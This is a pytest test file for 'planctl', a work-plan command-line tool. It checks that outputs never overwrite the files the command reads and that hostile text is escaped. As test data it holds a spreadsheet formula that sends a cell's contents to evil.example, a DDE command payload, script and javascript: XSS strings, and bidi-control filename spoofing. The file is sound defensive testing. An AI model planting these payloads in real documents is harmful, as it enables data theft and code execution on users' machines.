"""Issue 24: output files that would destroy what a command reads, outputs written in place,
and text that a spreadsheet, a markdown page, a mail reader or a calendar would obey."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

from tests.conftest import PLAN_2018, Planctl, Result, empty_store, run, snapshot
from tests.office_files import write_xlsx


def recorded_store(tmp_path: Path, planctl: Planctl) -> str:
    db = empty_store(str(tmp_path / "s.db"))
    planctl.ok("done", "6.1", "--note", "went well", db=db)
    return db


def refused(result: Result, message: str) -> None:
    """The command said `message` on stderr, and nothing else, with exit 1."""
    assert (result.code, result.out, result.err) == (1, "", f"planctl: {message}\n")


def test_history_onto_its_store_is_refused(tmp_path: Path, planctl: Planctl) -> None:
    db = recorded_store(tmp_path, planctl)
    before = snapshot(db)
    refused(
        planctl("history", "-o", db, db=db),
        f"-o {db} 是本命令读取的存储 {db}:请把输出写到别处",
    )
    assert snapshot(db) == before


def test_an_output_that_is_a_symbolic_link_to_the_store_is_refused(
    tmp_path: Path, planctl: Planctl
) -> None:
    db = recorded_store(tmp_path, planctl)
    link = tmp_path / "link.txt"
    link.symlink_to(db)
    before = snapshot(db)
    refused(
        planctl("history", "-o", str(link), db=db),
        f"-o {link} 是本命令读取的存储 {db}:请把输出写到别处",
    )
    assert snapshot(db) == before
    assert link.is_symlink()


@pytest.mark.parametrize("suffix", ["-wal", "-journal", "-shm"])
def test_the_store_s_wal_and_journal_count_as_the_store(
    tmp_path: Path, planctl: Planctl, suffix: str
) -> None:
    db = recorded_store(tmp_path, planctl)
    before = snapshot(db)
    refused(
        planctl("report", "-o", db + suffix, db=db),
        f"-o {db}{suffix} 是本命令读取的存储 {db}:请把输出写到别处",
    )
    assert snapshot(db) == before
    assert not Path(db + suffix).exists()


def test_report_onto_a_hard_link_to_its_plan_is_refused(tmp_path: Path, planctl: Planctl) -> None:
    db = recorded_store(tmp_path, planctl)
    plan = tmp_path / "2018.yaml"
    shutil.copy(PLAN_2018, plan)
    os.link(plan, tmp_path / "hard.yaml")
    before = plan.read_bytes()
    refused(
        planctl("report", "-o", str(tmp_path / "hard.yaml"), db=db, plan=plan),
        f"-o {tmp_path / 'hard.yaml'} 是本命令读取的计划文件 {plan}:请把输出写到别处",
    )
    refused(
        planctl("report", "--format", "xlsx", "-o", str(plan), db=db, plan=plan),
        f"-o {plan} 是本命令读取的计划文件 {plan}:请把输出写到别处",
    )
    assert plan.read_bytes() == before


def test_an_output_onto_the_config_file_is_refused(tmp_path: Path, planctl: Planctl) -> None:
    db = recorded_store(tmp_path, planctl)
    config = tmp_path / "planctl.toml"
    config.write_text("soon_days = 5\n", encoding="utf-8")
    refused(
        planctl("due", "-o", str(config), db=db, env={"PLANCTL_CONFIG": str(config)}),
        f"-o {config} 是本命令读取的配置文件 {config}:请把输出写到别处",
    )
    assert config.read_text(encoding="utf-8") == "soon_days = 5\n"


def test_calendar_and_store_export_onto_the_store_are_refused(
    tmp_path: Path, planctl: Planctl
) -> None:
    db = recorded_store(tmp_path, planctl)
    before = snapshot(db)
    message = f"-o {db} 是本命令读取的存储 {db}:请把输出写到别处"
    refused(planctl("export", "-o", db, db=db), message)
    refused(planctl("store", "export", db, db=db), message.replace("-o ", "", 1))
    assert snapshot(db) == before


def test_new_from_onto_its_old_plan_is_refused_even_with_force(
    tmp_path: Path, planctl: Planctl
) -> None:
    db = recorded_store(tmp_path, planctl)
    old = tmp_path / "2018.yaml"
    shutil.copy(PLAN_2018, old)
    before = old.read_bytes()
    refused(
        planctl("new", "--year", "2019", "--from", str(old), "-o", str(old), "--force", db=db),
        f"-o {old} 是本命令读取的计划文件 {old}:请把输出写到别处",
    )
    refused(
        planctl("new", "--year", "2019", "--from", str(old), "-o", db, "--force", db=db),
        f"-o {db} 是本命令读取的存储 {db}:请把输出写到别处",
    )
    assert old.read_bytes() == before


def test_import_onto_its_own_input_is_refused_even_with_force(tmp_path: Path) -> None:
    table = tmp_path / "table.xlsx"
    write_xlsx(table, [["序号", "重点工作", "完成时限"], ["1", "召开常委会议", "6月"]], [])
    before = table.read_bytes()
    refused(
        run("import", str(table), "-o", str(table), "--force"),
        f"-o {table} 是本命令读取的输入文件 {table}:请把输出写到别处",
    )
    assert table.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["table.xlsx"]


def disk_full_after_half(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every output file write stops half way with ENOSPC, as on a full disk."""
    import errno

    from planctl.cli import outfile

    def half_then_full(descriptor: int, data: bytes | Iterable[bytes]) -> None:
        whole = data if isinstance(data, bytes) else b"".join(data)
        os.write(descriptor, whole[: len(whole) // 2])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(outfile, "_write", half_then_full)


def test_a_full_disk_leaves_the_old_output_whole_and_no_temporary_file(
    tmp_path: Path, planctl: Planctl, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = recorded_store(tmp_path, planctl)
    out = tmp_path / "out" / "report.csv"
    out.parent.mkdir()
    planctl.ok("report", "--format", "csv", "-o", str(out), db=db)
    written = out.read_bytes()
    disk_full_after_half(monkeypatch)
    result = planctl("report", "--format", "json", "-o", str(out), db=db)
    assert (result.code, result.out, result.err) == (
        1,
        "",
        f"planctl: 无法写入 {out}:No space left on device\n",
    )
    assert out.read_bytes() == written
    assert [p.name for p in out.parent.iterdir()] == ["report.csv"]


def test_a_full_disk_leaves_a_plan_replaced_by_import_force_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = tmp_path / "in" / "table.xlsx"
    table.parent.mkdir()
    write_xlsx(table, [["序号", "重点工作", "完成时限"], ["1", "召开常委会议", "6月"]], [])
    plan = tmp_path / "out" / "2018.yaml"
    plan.parent.mkdir()
    shutil.copy(PLAN_2018, plan)
    disk_full_after_half(monkeypatch)
    result = run("import", str(table), "-o", str(plan), "--force")
    assert (result.code, result.err) == (
        1,
        f"planctl: 无法写入 {plan}:No space left on device\n",
    )
    assert plan.read_bytes() == PLAN_2018.read_bytes()
    assert [p.name for p in plan.parent.iterdir()] == ["2018.yaml"]
    fresh = tmp_path / "out" / "new.yaml"
    result = run("import", str(table), "-o", str(fresh))
    assert result.code == 1
    assert not fresh.exists()
    monkeypatch.undo()
    rerun = run("import", str(table), "-o", str(fresh))  # nothing partial blocks the rerun
    assert (rerun.code, rerun.err) == (0, "")
    assert fresh.read_text(encoding="utf-8").startswith("# 由 `planctl import` 根据 table.xlsx")


def test_store_export_keeps_the_store_s_mode_and_outputs_follow_the_umask(
    tmp_path: Path, planctl: Planctl
) -> None:
    db = recorded_store(tmp_path, planctl)
    Path(db).chmod(0o600)
    export = tmp_path / "export.jsonl"
    planctl.ok("store", "export", str(export), db=db)
    assert export.stat().st_mode & 0o777 == 0o600
    old = os.umask(0o027)
    try:
        report = tmp_path / "report.txt"
        planctl.ok("report", "-o", str(report), db=db)
        assert report.stat().st_mode & 0o777 == 0o640
        report.chmod(0o604)  # a file that is there keeps its mode
        planctl.ok("report", "-o", str(report), db=db)
        assert report.stat().st_mode & 0o777 == 0o604
    finally:
        os.umask(old)


HOSTILE_PLAN = """\
id: hostile
year: 2018
title: Hostile plan
sections:
  - number: 1
    title: Section one
    points:
      - number: 1
        title: Point one
tasks:
  - id: t1
    title: '=HYPERLINK("http://evil.example/?"&A1,"click")'
    month: 3
    owners: ['@SUM(1+1)']
    points: [1]
  - id: t2
    title: "+cmd|' /C calc'!A0"
    month: 3
    target: 6
    unit: "-1+1"
    points: [1]
"""


def hostile_plan(tmp_path: Path) -> Path:
    plan = tmp_path / "hostile.yaml"
    plan.write_text(HOSTILE_PLAN, encoding="utf-8")
    return plan


def test_csv_neutralises_text_that_a_spreadsheet_would_run(
    tmp_path: Path, planctl: Planctl
) -> None:
    plan = hostile_plan(tmp_path)
    db = empty_store(str(tmp_path / "s.db"))
    planctl.ok(
        "done", "t1", "--by", "-2+3", "--note", "=1+2", "--on", "2018-03-05", db=db, plan=plan
    )
    planctl.ok(
        "done",
        "t2",
        "--count",
        "2",
        "--by",
        "\u674e",
        "--note",
        "\t@x",
        "--on",
        "2018-03-06",
        db=db,
        plan=plan,
    )
    listed = planctl.ok("list", "--format", "csv", "--lang", "en", db=db, plan=plan)
    assert listed.splitlines()[1:] == [
        't1,3,2018-03-01,2018-03-31,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
        "'@SUM(1+1),1,,Done,done,2018-03-05,'-2+3,,,,'=1+2",
        "t2,3,2018-03-01,2018-03-31,'+cmd|' /C calc'!A0,,1,,overdue,red,,,2,6,'-1+1,' @x",
    ]
    history = planctl.ok("history", "--format", "csv", "--lang", "en", db=db, plan=plan)
    assert [line.split(",", 1)[1] for line in history.splitlines()[1:]] == [
        "t2,'+cmd|' /C calc'!A0,done,2018-03-06,\u674e,'+2 ·  @x",  # the count added, then the note
        't1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",done,2018-03-05,\'-2+3,\'=1+2',
    ]


def test_csv_keeps_numbers_and_a_lone_dash_as_they_are() -> None:
    from planctl.render.csv_out import plain, text_cell

    assert [plain(-3), plain(-0.5), plain("-3"), plain("+5"), plain("-")] == [
        "-3", "-0.5", "-3", "+5", "-"
    ]  # fmt: skip
    assert [text_cell("-3"), text_cell("-"), text_cell("-x"), text_cell("\r=1")] == [
        "-3", "-", "'-x", "'\n=1"
    ]  # fmt: skip


def test_markdown_shows_html_and_links_as_text(tmp_path: Path, planctl: Planctl) -> None:
    plan = hostile_plan(tmp_path)
    db = empty_store(str(tmp_path / "s.db"))
    notes = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)> & co",
        "![x](http://evil.example/t.png)",
        "[x](javascript:alert(1)) *b* _i_ `c` ~~s~~ \\ |",
    ]
    for day, note in enumerate(notes, start=1):
        planctl.ok("note", "t1", note, "--on", f"2018-03-0{day}", db=db, plan=plan)
    out = planctl.ok("history", "--format", "markdown", "--lang", "en", db=db, plan=plan)
    cells = [line.split(" | ")[-1] for line in out.splitlines() if line.startswith("| 20")]
    assert cells == [
        "\\[x\\](javascript:alert(1)) \\*b\\* \\_i\\_ \\`c\\` \\~\\~s\\~\\~ \\\\ \\| |",
        "!\\[x\\](http://evil.example/t.png) |",
        "&lt;img src=x onerror=alert(1)&gt; &amp; co |",
        "&lt;script&gt;alert(1)&lt;/script&gt; |",
    ]
    listed = planctl.ok("list", "--format", "markdown", "--lang", "en", db=db, plan=plan)
    assert '=HYPERLINK("http://evil.example/?"&amp;A1,"click")' in listed


BIDI_TITLE = (
    "Plan \u202egnp.exe \u200fx\u061c \u2066y\u2069\u202a\u202b\u202c\u202d\u200e\u2067\u2068"
)


def bidi_plan(tmp_path: Path) -> tuple[Path, str]:
    plan = tmp_path / "bidi.yaml"
    text = HOSTILE_PLAN.replace("title: Hostile plan", f'title: "{BIDI_TITLE}"')
    text = text.replace("title: Point one", f'title: "{BIDI_TITLE}"')
    text = text.replace("owners: ['@SUM(1+1)']", 'owners: ["unit\u202e1"]')
    plan.write_text(text, encoding="utf-8")
    db = empty_store(str(tmp_path / "s.db"))
    return plan, db


def test_the_mail_subject_has_no_bidi_controls_also_under_dry_run(
    tmp_path: Path, planctl: Planctl
) -> None:
    plan, db = bidi_plan(tmp_path)
    env = {"PLANCTL_SMTP_HOST": "127.0.0.1", "PLANCTL_MAIL_FROM": "planctl@example.org"}
    out = planctl.ok("mail", "--to", "a@example.org", "--dry-run", db=db, plan=plan, env=env)
    assert out.splitlines()[0] == "Subject: Plan gnp.exe x y 每周工作简报(2018-06-15)"


def test_the_calendar_export_has_no_bidi_controls(tmp_path: Path, planctl: Planctl) -> None:
    import re

    plan, db = bidi_plan(tmp_path)
    ics = planctl.ok("export", db=db, plan=plan)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", ics)
    assert "X-WR-CALNAME:Plan gnp.exe x y" in ics.splitlines()
    assert "CATEGORIES:unit1" in ics.splitlines()


def test_a_weight_of_80_15_is_scored_80_2_half_up() -> None:
    from fractions import Fraction

    from planctl.core.assess import Outcome, Weights, rounded

    weights = Weights(late=80.15)
    assert weights.of(Outcome.LATE) == Fraction("80.15")
    assert str(rounded(weights.of(Outcome.LATE))) == "80.2"


def test_a_one_day_period_is_a_period(tmp_path: Path, planctl: Planctl) -> None:
    plan = tmp_path / "day.yaml"
    plan.write_text(
        "id: day\nyear: 2018\ntitle: One day\nperiod: {start: 2018-06-15, end: 2018-06-15}\n"
        "tasks:\n  - {id: t1, title: Open day, due: 2018-06-15}\n",
        encoding="utf-8",
    )
    checked = planctl("check", str(plan))
    assert (checked.code, checked.err) == (0, "")
    db = empty_store(str(tmp_path / "s.db"))
    planctl.ok("done", "t1", db=db, plan=plan)
    assert [t["status"] for t in planctl.json("list", db=db, plan=plan)["tasks"]] == ["done"]
    backwards = plan.read_text(encoding="utf-8").replace("end: 2018-06-15", "end: 2018-06-14")
    plan.write_text(backwards, encoding="utf-8")
    refused = planctl("check", str(plan))
    assert refused.code == 1
    assert "计划期的结束日期(2018-06-14)早于开始日期(2018-06-15)" in refused.err


@pytest.fixture
def shanghai(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The machine's local time zone is UTC+8 (and back to the suite's own after the test)."""
    import time

    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    yield
    monkeypatch.setenv("TZ", "UTC")  # the suite's (conftest.isolated)
    time.tzset()


def test_history_shows_the_recorded_time_in_local_time_with_its_offset(
    tmp_path: Path, shanghai: None
) -> None:
    from tests.test_golden import history_store

    db = history_store(tmp_path / "store.sqlite3")
    out = run("history", "--format", "csv", "--lang", "en", "--db", db, "--today", "2018-06-15")
    assert out.out.splitlines()[:3] == [
        "Recorded,ID,Title,Action,On,By,Note",
        "2018-06-15 09:10 +08:00,4.2,开展议政日,note,2018-06-15,王科长,改在五月",
        "2018-06-14 09:09 +08:00,7.2,开展城市服务业发展情况的调研,defer,2018-06-14,王科长,→ 2018-08-31 · 调研对象调整",
    ]
    recorded = json.loads(run("history", "--format", "json", "--db", db).out)["events"][0]
    assert recorded["recorded_at"] == "2018-06-15T01:10:00+00:00"  # JSON stays UTC


def test_new_from_replaces_the_year_only_as_a_whole_number(
    tmp_path: Path, planctl: Planctl
) -> None:
    import yaml

    old = tmp_path / "old.yaml"
    old.write_text(
        "id: plan-20181\nyear: 2018\ntitle: 2018 work plan, file 20181\n"
        "tasks:\n  - {id: t1, title: Task one, month: 12}\n",
        encoding="utf-8",
    )
    db = empty_store(str(tmp_path / "s.db"))
    made = planctl("new", "--year", "2019", "--from", str(old), db=db, today="2019-01-05")
    assert made.code == 0, made.err
    plan = yaml.safe_load(made.out)
    assert (plan["id"], plan["title"]) == ("plan-20181-2019", "2019 work plan, file 20181")
    old.write_text(old.read_text(encoding="utf-8").replace("plan-20181", "plan-2018-a"))
    made = planctl("new", "--year", "2019", "--from", str(old), db=db, today="2019-01-05")
    assert yaml.safe_load(made.out)["id"] == "plan-2019-a"


def test_xlsx_marks_a_note_longer_than_excel_takes_and_says_so(
    tmp_path: Path, planctl: Planctl
) -> None:
    from openpyxl import load_workbook

    db = empty_store(str(tmp_path / "s.db"))
    note = "长" * 40_000
    planctl.ok("done", "6.1", "--note", note, db=db)
    book = tmp_path / "list.xlsx"
    result = planctl("list", "--format", "xlsx", "-o", str(book), db=db)
    assert (result.code, result.out) == (0, "")
    assert result.err == (
        f"planctl: 警告:{book}:有 1 个单元格超过 Excel 可容纳的 32,767 个字符:"
        "已截断,并以 …[+N] 结尾(N 为截去的字符数);--format json 或 csv 保留全文\n"
    )
    sheet = load_workbook(book).worksheets[0]
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    long = [value for value in cells if value.startswith("长长")]
    assert len(long) == 1 and len(long[0]) == 32_767
    assert long[0] == "长" * (32_767 - len("…[+7241]")) + "…[+7241]"


def test_an_output_that_is_not_a_regular_file_is_written_through(
    tmp_path: Path, planctl: Planctl
) -> None:
    """A link to a device (and so /dev/null itself) is written to, never replaced by a
    file; a link to a file keeps linking to it, which gets the new content."""
    db = recorded_store(tmp_path, planctl)
    to_null = tmp_path / "to-null"
    to_null.symlink_to(os.devnull)
    assert planctl.ok("report", "-o", str(to_null), db=db) == ""
    assert to_null.is_symlink() and to_null.is_char_device()
    target = tmp_path / "real.txt"
    target.write_text("old\n", encoding="utf-8")
    to_file = tmp_path / "to-file"
    to_file.symlink_to(target)
    assert planctl.ok("report", "-o", str(to_file), db=db) == ""
    assert to_file.is_symlink()
    assert target.read_text(encoding="utf-8").startswith("2018 年区政协常委会工作要点")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
